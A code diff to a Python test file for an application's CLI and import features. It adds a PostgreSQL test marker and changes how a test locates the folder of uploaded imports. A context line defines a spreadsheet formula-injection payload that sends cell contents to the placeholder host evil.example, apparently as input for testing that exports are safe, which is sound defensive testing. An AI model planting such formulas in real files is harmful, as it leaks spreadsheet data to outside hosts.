@@ -7,6 +7,7 @@ import csv
 import io
 from pathlib import Path
 
+import pytest
 from click.testing import CliRunner
 from openpyxl import load_workbook
 
@@ -15,6 +16,9 @@ from central.cli import cli
 from central.services import audit, signin
 
 from .conftest import PASSWORD, login
+
+# the PostgreSQL run (--backend=postgresql) keeps this file: it passes there (docs/scale.md)
+pytestmark = pytest.mark.postgresql
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -112,10 +116,12 @@ def test_the_upload_limit_and_the_cookie_settings_take_effect(app, client, db_fi
     assert "Secure" in cookie and "SameSite=Strict" in cookie
 
 
-def test_uploaded_files_are_deleted_after_import_failure_and_when_abandoned(client, db, db_file):
+def test_uploaded_files_are_deleted_after_import_failure_and_when_abandoned(app, client, db):
+    from central.config import data_folder
+
     from .test_imports import CSV, _wait
 
-    folder = Path(db_file).parent / "imports"
+    folder = Path(data_folder(app.config, app.instance_path)) / "imports"  # beside the SQLite file
     login(client, "marketer")
 
     def upload(data, name="people.csv"):
